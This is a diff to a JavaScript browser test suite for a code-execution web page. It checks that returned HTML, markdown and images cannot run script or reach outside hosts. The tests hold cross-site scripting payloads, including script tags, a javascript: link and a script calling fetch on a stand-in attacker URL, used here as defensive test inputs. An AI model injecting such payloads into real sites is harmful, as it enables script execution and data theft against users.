@@ -3,7 +3,7 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import { elsewhere } from "./server.mjs";
-import { run, runs, text, URL_OF_SERVER, withPage } from "./support.mjs";
+import { answering, run, runs, text, URL_OF_SERVER, withPage } from "./support.mjs";
 
 const PAYLOADS = [
   "<script>window.hacked = 1</script>",
@@ -47,15 +47,6 @@ test("the policy is served, and the browser keeps to it", () =>
     { expectsViolations: true, allow: () => "https://evil.example/" },
   ));
 
-/** Answers the next requests by itself: a server that a script has taken over. */
-function answering(page, body, status = 200) {
-  return page.route("**/execute", (route) =>
-    route.fulfill({ status, contentType: "application/json", body: JSON.stringify(body) }),
-  );
-}
-
-const USAGE = { duration_ms: 1, fuel: 1, memory_bytes: 65536, memory_pages: 1 };
-
 async function unharmed(page) {
   assert.equal(await page.evaluate(() => window.hacked), undefined);
   const injected = await page.evaluate(
@@ -84,7 +75,7 @@ test("an answer that is all lies does no harm", () =>
       page,
       {
         error: lie, error_type: lie, traceback: lie, line: 1e9, column: -5, stdout: lie, stderr: lie,
-        truncated: [lie], usage: USAGE, request_id: lie, display: [{ mime: lie, data: lie, alt: lie }],
+        truncated: [lie], request_id: lie, display: [{ mime: lie, data: lie, alt: lie }],
       },
       400,
     );
@@ -111,7 +102,7 @@ test("displayed HTML runs nothing, asks nobody and goes nowhere", () =>
         `<script>fetch('${attacker.url}k')</script>`,
         "<table><tr><td>the table itself</td></tr></table>",
       ].join("");
-      await answering(page, { result: null, stdout: "", stderr: "", usage: USAGE, truncated: [], display: [{ mime: "text/html", data: html }] });
+      await answering(page, { result: null, display: [{ mime: "text/html", data: html }] });
       await run(page);
       const frame = page.frameLocator("#display iframe");
       await frame.getByText("the table itself").waitFor();
@@ -141,11 +132,12 @@ test("displayed images, JSON and text appear as what they are", () =>
       { mime: "text/markdown", data: PAYLOADS.join("\n\n") + "\n\n[click](javascript:window.hacked=1) ![x](https://evil.example/x.png)" },
       { mime: "text/plain", data: "plain" },
     ];
-    await answering(page, { result: 1, stdout: "", stderr: "", usage: USAGE, truncated: ["display"], display });
+    await answering(page, { result: 1, truncated: ["display"], display });
     await run(page);
     const images = page.locator("#display img");
     // They are put on the page, and loaded, after the answer.
     await images.nth(1).waitFor();
+    await page.locator("#display .markdown").waitFor();
     const sizes = await images.evaluateAll(async (all) => {
       await Promise.all(all.map((each) => each.decode()));
       return all.map((each) => [each.naturalWidth, each.naturalHeight]);
